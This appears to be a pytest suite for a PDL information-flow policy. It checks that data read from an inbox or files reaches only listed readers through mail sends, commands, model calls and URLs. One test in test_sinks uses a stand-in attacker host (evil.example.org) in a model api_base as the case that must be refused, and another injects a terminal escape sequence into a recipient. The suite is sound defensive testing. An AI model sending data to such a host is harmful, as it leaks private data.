"""Readers: who may get data of a source. A label names its readers, by words of the policy and fields of the answer, and a rule names who gets a
value. A value passes when everyone who gets it is among the readers of each of its labels, whatever happened to the value on the way.
SPDX-License-Identifier: Apache-2.0
"""
import http.client
import json
import os
import re
import subprocess

import pytest

from ..checks import check
from ..web.site import Site
from .tries import calls, run, servers, tool

MAIL = {"inbox": {"from": [{"tool": "inbox/*"}], "readers": ["me", "${ item.participants }"]}}
SEND = {"sink": "tool mail/send", "argument": "body", "readers": ["${ to }"]}
POLICY = {"labels": MAIL, "rules": [SEND], "otherwise": "allow"}
A = {"participants": ["ann@x", "bob@x"], "text": "lunch", "n": {"deep": [{"a": "in"}]}}
B = {"participants": ["bob@x", "carl@x"], "text": "dinner"}
ANSWERS = {"a": json.dumps(A), "b": json.dumps(B), "list": json.dumps([A, B]), "yaml": "participants:\n- ann@x\n- bob@x\ntext: lunch\n",
           "lines": json.dumps(A) + "\n" + json.dumps(B) + "\n", "none": json.dumps({"text": "x"}), "plain": "no fields here", "empty": "[]",
           "objects": json.dumps({"participants": [{"mail": "ann@x"}, {"mail": "bob@x"}]}), "one": json.dumps({"participants": "ann@x"}),
           "number": json.dumps({"participants": 7}), "deep": json.dumps([[A], [B]])}


def setup(folder):
    several = {"name": "send", "description": "sends", "inputSchema": {"type": "object", "properties": {"to": {}, "cc": {}, "body": {}}}}
    servers(folder, inbox=([tool(n) for n in ANSWERS], ANSWERS), mail=([several], {}), other=([tool("fetch")], {"fetch": "elsewhere"}))


HEAD = {"inbox": {"import": "mcp:inbox"}, "mail": {"import": "mcp:mail"}, "other": {"import": "mcp:other"}}


def sent(pdl, folder, body, to, policy=POLICY, before=(), cc=None, **more):
    """Did the mail leave? and what was said."""
    args = {"to": to, "body": body, **({} if cc is None else {"cc": cc})}
    program = {"defs": HEAD, "lastOf": [*before, {"call": "${ mail.send }", "args": args}]}
    out, err = run(pdl, folder, program, policy=policy, **more)
    return bool(calls(folder, "mail")), out, err


def have(name, tool_name):
    return {"def": name, "call": "${ inbox.%s }" % tool_name, "contribute": []}


# what was read, the text of it that is sent, to whom, does it pass?
ROWS = (
    ("a", "${ v }", ["ann@x"], True), ("a", "${ v }", ["ann@x", "bob@x"], True), ("a", "${ v }", ["ann@x", "carl@x"], False), ("a", "${ v }", "ann@x", True),
    ("a", "${ v }", "eve@x", False), ("a", "${ v }", ["me"], True), ("a", "it says: ${ v[2:4] }", ["ann@x"], True), ("a", "it says: ${ v[2:4] }", ["carl@x"], False),
    ("b", "${ v }", ["carl@x"], True), ("b", "${ v }", ["ann@x"], False), ("list", "${ v }", ["bob@x"], True), ("list", "${ v }", ["ann@x"], False), ("list", "${ v }", "me", True),
    ("yaml", "${ v }", ["ann@x"], True), ("yaml", "${ v }", ["carl@x"], False), ("lines", "${ v }", ["bob@x"], True), ("lines", "${ v }", ["ann@x"], False),
    ("none", "${ v }", "me", True), ("none", "${ v }", "ann@x", False), ("plain", "${ v }", "me", True), ("plain", "${ v }", "no fields here", False),
    ("empty", "${ v }", "me", True), ("empty", "${ v }", "ann@x", False), ("one", "${ v }", "ann@x", True), ("one", "${ v }", "bob@x", False),
    ("number", "${ v }", "7", False), ("number", "${ v }", 7, False), ("objects", "${ v }", "ann@x", False), ("deep", "${ v }", "bob@x", True),
    ("deep", "${ v }", "eve@x", False),
    ("a", "nothing of it", ["eve@x"], True), ("a", "${ v }", [], False), ("a", "${ v }", {"name": "ann@x"}, True), ("a", "${ v }", {"name": "eve@x"}, False),
    ("a", "${ v }", "ann@x, eve@x", False), ("a", "${ v }", ["ann@x", None], True), ("a", "${ v }", ["ann@x", 5], False), ("a", "${ v | length }", "eve@x", False),
    ("a", "${ (v | length) > 3 }", "eve@x", False), ("a", ["x", {"y": "${ v }"}], "eve@x", False), ("a", ["x", {"y": "${ v }"}], "ann@x", True),
)


@pytest.mark.parametrize("part", range(3))
def test_rows(pdl, folder, part):
    setup(folder)
    for name, body, to, want in ROWS[part::3]:
        ok, out, err = sent(pdl, folder, body, to, before=[have("v", name)])
        check(f"{name}: {body!r} to {to!r}", ok == want and ("refuses argument body" in err) != want, out, err)


def test_messages(pdl, folder):
    setup(folder)
    _, _, err = sent(pdl, folder, "${ v }", ["ann@x", "eve@x"], before=[have("v", "a")])
    check("who is no reader", "from tool, inbox; eve@x is no reader of inbox; it comes from tool inbox/a" in err, err)
    _, _, err = sent(pdl, folder, "${ v }", [], before=[have("v", "a")])
    check("nobody is known", "it is not known who gets it, which has readers: inbox" in err, err)
    _, _, err = sent(pdl, folder, "${ v }", ["\x1b[2Jeve"], before=[have("v", "a")])
    check("controls are visible", "\\u{1b}" in err and "\x1b" not in err, err)


def test_merged(pdl, folder):
    """A value that is made of two has the readers that both have; one that is not has its own."""
    setup(folder)
    both = [have("v", "a"), have("w", "b")]
    for body, to, want in (("${ v }${ w }", "bob@x", True), ("${ v }${ w }", "ann@x", False), ("${ v }${ w }", "carl@x", False), ("${ [v, w] | join }", "bob@x", True),
                           ("${ [v, w] | join }", "ann@x", False), ("${ v }", "ann@x", True), ("${ w }", "ann@x", False), ("${ {'k': v, 'l': w}['k'] }", "ann@x", True),
                           ("${ v if w else '' }", "ann@x", True), ("${ dict(a=v, b=w) | string }", "ann@x", False)):
        ok, out, err = sent(pdl, folder, body, to, before=both)
        check(f"{body} to {to}", ok == want, out, err)
    ok, out, err = sent(pdl, folder, "${ v if w else '' }", "ann@x", before=both, policy={**POLICY, "control": "strict"})
    check("with control: strict the choice counts", ok or "is no reader" in err, out, err)


def test_ways(pdl, folder):
    """Through loops, functions, code, commands, files, contexts, parsers: the readers are those of what went in."""
    setup(folder)
    ways = {
        "function": [{"def": "f", "function": {"x": "string"}, "return": "${ x | upper }"}, {"def": "u", "call": "${ f }", "args": {"x": "${ v }"}, "contribute": []}],
        "loop": [{"def": "u", "for": {"x": ["${ v }", "b"]}, "repeat": "${ x }", "contribute": []}],
        "parser": [{"def": "u", "data": "${ v }", "parser": "json", "contribute": []}],
        "command": [{"def": "u", "lang": "command", "args": ["echo", "${ v }"], "contribute": []}],
        "code": [{"def": "u", "lang": "python", "code": "result = v", "contribute": []}],
        "file": [{"lang": "command", "args": ["sh", "-c", 'printf %s "$1" > kept', "sh", "${ v }"], "contribute": []}, {"def": "u", "read": "kept", "contribute": []}],
        "model": [{"def": "u", "model": "openai/m", "input": "${ v }", "parameters": {"mock_response": "answer"}, "contribute": []}],
        "aggregator": [{"text": "${ v }", "contribute": ["context"]}, {"def": "u", "data": "${ pdl_context | string }", "contribute": []}],
        "jinja": [{"def": "u", "lang": "jinja", "code": "{{ v }}!", "contribute": []}],
        "fallback": [{"def": "u", "data": "${ v.nothing.at }", "fallback": "${ v }", "contribute": []}],
    }
    for name, way in ways.items():
        for to, want in (("ann@x", True), ("carl@x", False)):
            ok, out, err = sent(pdl, folder, "${ u }", to, before=[have("v", "a"), *way])
            check(f"{name} to {to}", ok == want and (want or "carl@x is no reader of inbox" in err), out, err)


def test_rules(pdl, folder):
    setup(folder)
    a = [have("v", "a")]
    rows = (
        ([{**SEND, "readers": ["${ to }", "${ cc }"]}], "ann@x", "bob@x", True), ([{**SEND, "readers": ["${ to }", "${ cc }"]}], "ann@x", "eve@x", False),
        ([{**SEND, "readers": ["${ to }", "${ cc }"]}], "ann@x", None, True), ([SEND], "ann@x", "eve@x", True), ([{**SEND, "readers": "me"}], "eve@x", None, True),
        ([{**SEND, "readers": "you"}], "ann@x", None, False), ([{**SEND, "readers": "${ too }"}], "ann@x", None, False), ([{**SEND, "otherwise": "allow"}], "eve@x", None, True),
        ([SEND, {"sink": "tool mail/send", "argument": "body", "allow": ["tool", "inbox"]}], "eve@x", None, True),
        ([{**SEND, "otherwise": "deny"}, {"sink": "tool mail/send", "argument": "body", "allow": ["tool", "inbox"]}], "eve@x", None, False),
        ([{**SEND, "deny": ["inbox"]}], "ann@x", None, False), ([{**SEND, "allow": ["user"]}], "ann@x", None, False), ([{**SEND, "allow": ["tool", "inbox"]}], "ann@x", None, True),
    )
    for rules, to, cc, want in rows:
        ok, out, err = sent(pdl, folder, "${ v }", to, cc=cc, policy={**POLICY, "rules": rules}, before=a)
        check(f"{rules} to {to}, {cc}", ok == want, out, err)
    # a label without readers has no say, and a second label with readers has
    two = {**MAIL, "hr": {"from": {"tool": "other/*"}, "readers": ["boss"]}}
    other = [*a, {"def": "w", "call": "${ other.fetch }", "contribute": []}]
    for body, to, want in (("${ w }", "boss", True), ("${ w }", "ann@x", False), ("${ v }${ w }", "ann@x", False), ("${ v }${ w }", "boss", False), ("${ v }", "ann@x", True)):
        ok, out, err = sent(pdl, folder, body, to, policy={**POLICY, "labels": two}, before=other)
        check(f"two labels: {body} to {to}", ok == want, out, err)
    for to, want in (("ann@x", True), ("boss", True)):
        ok, out, err = sent(pdl, folder, "${ w }", to, policy=POLICY, before=other)
        check(f"no readers: to {to}", ok == want, out, err)


def test_fields(pdl, folder):
    setup(folder)
    for name, path, to, want in (("objects", "item.participants.mail", "ann@x", True), ("objects", "item.participants.mail", "eve@x", False), ("a", "item.n.deep.a", "in", True),
                                 ("a", "item.n.deep.b", "in", False), ("a", " item.participants ", "ann@x", True), ("a", "item", "ann@x", False)):
        labels = {"inbox": {"from": [{"tool": "inbox/*"}], "readers": ["${%s}" % path]}}
        ok, out, err = sent(pdl, folder, "${ v }", to, policy={**POLICY, "labels": labels}, before=[have("v", name)])
        check(f"{name}, {path}, {to}", ok == want, out, err)


def test_sinks(pdl, folder):
    """Other sinks than tools: the argument of a command, the name of a model, a host."""
    labels = {"notes": {"from": [{"read": "notes*"}], "readers": ["cat", "openai/m", "api.example.org", "${ item.who }"]}}
    read = {"def": "v", "read": "notes.yaml", "contribute": []}
    rows = (
        ({"sink": "command", "readers": "${ 0 }"}, {"lang": "command", "args": ["cat", "${ v }"]}, {"lang": "command", "args": ["printf", "RAN", "${ v }"]}),
        ({"sink": "model", "argument": "user", "readers": "${ name }"}, {"model": "openai/m", "input": "${ v }", "parameters": {"mock_response": "RAN"}},
         {"model": "openai/n", "input": "${ v }", "parameters": {"mock_response": "RAN"}}),
        ({"sink": "url", "readers": "${ host }"}, {"model": "openai/m", "input": "q", "parameters": {"api_base": "http://api.example.org/${ v | length }", "mock_response": "RAN"}},
         {"model": "openai/m", "input": "q", "parameters": {"api_base": "http://evil.example.org/${ v | length }", "mock_response": "RAN"}}),
    )
    for rule, good, bad in rows:
        for block, want in ((good, True), (bad, False)):
            out, err = run(pdl, folder, {"lastOf": [read, block]}, policy={"labels": labels, "rules": [rule], "otherwise": "allow"}, files={"notes.yaml": "who: you\n"})
            check(f"{rule}: {block}", ("refuses" not in err) == want, out, err)


def test_kept(pdl, folder):
    """An answer out of a recording, a durable journal or a cache has the readers that the policy of this run finds in it."""
    setup(folder)
    program = {"defs": HEAD, "lastOf": [have("v", "a"), {"def": "m", "model": "openai/m", "input": "${ v }", "parameters": {"mock_response": "ok"}, "contribute": []},
                                        {"call": "${ mail.send }", "args": {"to": "ann@x", "body": "${ v } ${ m }"}}]}
    others = {**POLICY, "labels": {"inbox": {"from": [{"tool": "inbox/*"}], "readers": ["${ item.n.deep.a }"]}}}
    for first, again in ((["--record", "r.journal"], ["--replay", "r.journal"]), (["--durable", "--id", "one"], ["--durable"]), (["--cache", "c"], ["--cache", "c"])):
        out, err = run(pdl, folder, program, *first, policy=POLICY)
        check(f"{first}", "refuses" not in err and calls(folder, "mail"), out, err)
        out, err = run(pdl, folder, program, *again, policy=POLICY)
        check(f"{again}", "refuses" not in err, out, err)
        calls(folder, "mail")
        out, err = run(pdl, folder, program, *again, policy=others)
        check(f"{again} with other readers", "ann@x is no reader of inbox" in err and not calls(folder, "mail"), out, err)


def test_rest_of_a_run(pdl, folder):
    """A durable run that is parked and continues: what is in its journal has its readers again."""
    setup(folder)
    program = {"defs": HEAD, "lastOf": [have("v", "a"), {"lang": "command", "args": ["echo", "stop"]}, {"call": "${ mail.send }", "args": {"to": "${ to }", "body": "${ v }"}}]}
    policy = {**POLICY, "rules": [SEND, {"sink": "command echo", "always": "approve"}]}
    env = {**os.environ, "HOME": str(folder), "PDL_MCP_CONFIG": "mcp.json"}
    for to, want in (("bob@x", True), ("eve@x", False)):
        out, err = run(pdl, folder, program, "--durable", "--park", "--id", to[:3], "-d", json.dumps({"to": to}), policy=policy)
        check("it stops", not calls(folder, "mail") and "waits for an answer" in err and calls(folder, "inbox"), out, err)
        said = [subprocess.run([pdl, *a], cwd=folder, env=env, capture_output=True, text=True, timeout=60) for a in (["answer", to[:3], "--at", "lastOf.1.code.approval", "y"], ["resume", to[:3]])]
        check(f"resumed: {to}", bool(calls(folder, "mail")) == want and not calls(folder, "inbox"), *(p.stdout + p.stderr for p in said))


def test_other_runs(pdl, folder):
    """What the process of code kept of an earlier row has the readers of that row, too."""
    setup(folder)
    (folder / "p.yaml").write_text(json.dumps({"policy": 1, **POLICY}))
    row = {"defs": HEAD, "lastOf": [{"def": "v", "call": "${ inbox[n] }", "contribute": []}, {"def": "u", "lang": "python", "code": "import builtins\nold = getattr(builtins, 'kept', '')\n"
                                    "builtins.kept = v\nresult = old + v", "contribute": []}, {"call": "${ mail.send }", "args": {"to": "${ to }", "body": "${ u }"}}]}
    for to, want in ((["bob@x", "bob@x"], 2), (["ann@x", "ann@x"], 1), (["ann@x", "carl@x"], 1), (["me", "me"], 2), (["eve@x", "eve@x"], 0)):
        (folder / "rows.jsonl").write_text("".join(json.dumps({"n": n, "to": t}) + "\n" for n, t in zip(("a", "b"), to)))
        for old in folder.glob("out.jsonl*"):
            old.unlink()
        out, err = run(pdl, folder, row, policy=POLICY)  # writes a.pdl
        out, err = batch(pdl, folder)
        made = calls(folder, "mail")
        n = len(made)
        check(f"rows to {to}", n == want, out, err, made)


def batch(pdl, folder):
    env = {**os.environ, "HOME": str(folder), "PDL_MCP_CONFIG": "mcp.json"}
    p = subprocess.run([pdl, "batch", "--policy", "p.yaml", "-i", "rows.jsonl", "-o", "out.jsonl", "--jobs", "1", "a.pdl"], cwd=folder, env=env, capture_output=True, text=True,
                       timeout=60, stdin=subprocess.DEVNULL)
    return p.stdout, p.stderr + ((folder / "out.jsonl").read_text() if (folder / "out.jsonl").exists() else "")


def test_entries(pdl, folder):
    """Of a value from another run, as an earlier entry of the repl, only the names of the policy itself are known."""
    setup(folder)
    (folder / "p.yaml").write_text(json.dumps({"policy": 1, **POLICY}))
    env = {**os.environ, "HOME": str(folder), "PDL_MCP_CONFIG": "mcp.json"}
    for to, want in (("me", True), ("ann@x", False)):
        lines = ["defs: %s" % json.dumps(HEAD), json.dumps(have("v", "a")), json.dumps({"call": "${ mail.send }", "args": {"to": to, "body": "${ v }"}})]
        p = subprocess.run([pdl, "repl", "--policy", "p.yaml"], cwd=folder, env=env, capture_output=True, text=True, timeout=60, input="\n\n".join(lines) + "\n\n")
        check(f"an earlier entry, to {to}", bool(calls(folder, "mail")) == want, p.stdout, p.stderr)


def test_requests(pdl, folder):
    """Each request of a server is a run of its own: what it read has its readers, with and without a journal."""
    setup(folder)
    send = {"call": "${ mail.send }", "args": {"to": "${ question }", "body": "${ v }"}, "fallback": "${ pdl_error.kind }"}
    (folder / "a.pdl").write_text(json.dumps({"defs": HEAD, "lastOf": [have("v", "a"), send]}))
    (folder / "p.yaml").write_text(json.dumps({"policy": 1, **POLICY}))
    env = {**os.environ, "HOME": str(folder), "PDL_MCP_CONFIG": "mcp.json"}
    for more in ((), ("--durable",)):
        p = subprocess.Popen([pdl, "serve", "--port", "0", "--policy", "p.yaml", *more, "a.pdl"], cwd=folder, env=env, stdin=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
                             start_new_session=True)
        try:
            port = int(re.search(r"http://[^ ]*?:(\d+)", p.stderr.readline()).group(1))
            for to, want in (("ann@x", True), ("eve@x", False), ("me", True), ("carl@x", False)):
                c = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
                c.request("POST", "/v1/chat/completions", json.dumps({"messages": [{"role": "user", "content": to}]}), {"Content-Type": "application/json", "Idempotency-Key": to})
                said = json.loads(c.getresponse().read())["choices"][0]["message"]["content"]
                check(f"a request, to {to}", bool(calls(folder, "mail")) == want and ("policy" in said) != want, said)
        finally:
            p.terminate()
            p.communicate(timeout=60)


def test_questions(pdl, folder):
    """The question says who is no reader."""
    setup(folder)
    policy = {**POLICY, "rules": [{**SEND, "otherwise": "approve"}]}
    program = {"defs": HEAD, "lastOf": [have("v", "a"), {"call": "${ mail.send }", "args": {"to": "eve@x", "body": "${ v }"}}]}
    out, err = run(pdl, folder, program, "--durable", "--park", "--id", "q", policy=policy)
    shown = subprocess.run([pdl, "runs", "show", "q"], cwd=folder, env={**os.environ, "HOME": str(folder)}, capture_output=True, text=True, timeout=60, check=False)
    check("who", '"eve@x" is no reader of inbox' in out + err + shown.stdout, out, err, shown.stdout, shown.stderr)


def test_check(pdl, folder):
    """pdl check reports nothing as always refused that a value decides, and pdl policy check accepts the policy."""
    (folder / "notes").write_text("x")
    (folder / "p.yaml").write_text(json.dumps({"policy": 1, "labels": {"n": {"from": [{"read": "notes"}], "readers": ["echo"]}}, "lists": {"few": ["x"]},
                                               "rules": [{"sink": "command", "argument": 1, "readers": ["${ 0 }"]}, {"sink": "command", "argument": 2, "in": "few"},
                                                         {"sink": "command", "argument": 3, "matches": "x*"}], "otherwise": "allow"}))
    (folder / "a.pdl").write_text(json.dumps({"defs": {"v": {"read": "notes"}}, "lang": "command", "args": ["echo", "${ v }", "${ v }", "${ v }"]}))
    p = subprocess.run([pdl, "check", "--policy", "p.yaml", "a.pdl"], cwd=folder, capture_output=True, text=True, timeout=60, check=False)
    check("check", p.returncode == 0 and "refuses" not in p.stdout + p.stderr, p.stdout, p.stderr)
    p = subprocess.run([pdl, "policy", "check", "p.yaml"], cwd=folder, capture_output=True, text=True, timeout=60, check=False)
    check("policy check", p.returncode == 0, p.stdout, p.stderr)


def test_mistakes(pdl, folder):
    setup(folder)
    for policy, want in (({"labels": {"a": {"from": [{"tool": "i/*"}], "readers": []}}}, "readers should be at least one name"),
                         ({"labels": {"a": {"from": [{"tool": "i/*"}], "readers": [5]}}}, "readers should be a list of names"),
                         ({"labels": {"a": {"from": [{"tool": "i/*"}], "readers": ["${ participants }"]}}}, "${ item.FIELD }"),
                         ({"labels": {"a": {"from": [{"tool": "i/*"}], "readers": ["x ${ item.a }"]}}}, "${ item.FIELD }"),
                         ({"labels": {"a": {"from": [{"tool": "i/*"}], "readers": ["${ item.a | lower }"]}}}, "${ item.FIELD }"),
                         ({"labels": {"a": {"readers": ["me"]}}}, "should say its sources"), ({"labels": {"a": {"from": [{"tool": "i/*"}], "reader": ["me"]}}}, "did you mean 'readers'"),
                         ({"labels": {"a": {"from": [{"tool": "i"}], "readers": ["me"]}}}, "a tool is SERVER/NAME"),
                         ({"rules": [{"sink": "command", "readers": ["me"]}]}, "no label of this policy has readers"),
                         ({"labels": MAIL, "rules": [{"sink": "output", "readers": ["me"]}]}, "the sink output has no readers"),
                         ({"labels": MAIL, "rules": [{"sink": "command", "readrs": ["me"]}]}, "did you mean 'readers'"),
                         ({"labels": MAIL, "rules": [{"sink": "command", "readers": ["${ 1 + 2 }"]}]}, "${ ARGUMENT }")):
        out, err = run(pdl, folder, "data: 1\n", policy={"otherwise": "allow", **policy})
        check(str(policy), want in err and not out.strip(), out, err)


def test_web_pages(pdl, folder):
    """The readers of a page are in its text, and not in the status and headers beside it."""
    setup(folder)
    labels = {"inbox": {"from": [{"http": "**"}], "readers": ["me", "${ item.participants }"]}}
    with Site(a=json.dumps(A).encode(), list=json.dumps([A, B]).encode(), plain=b"no fields") as s:
        for page, to, want in (("a", "ann@x", True), ("a", "carl@x", False), ("list", "bob@x", True), ("list", "ann@x", False), ("plain", "me", True), ("plain", "ann@x", False)):
            ok, out, err = sent(pdl, folder, "${ v.text }", to, before=[{"def": "v", "data": "${ stdlib.http('%s/%s') }" % (s.url, page), "contribute": []}], policy={**POLICY, "labels": labels})
            check(f"{page} to {to}", ok == want and (want or "is no reader of inbox" in err), out, err)
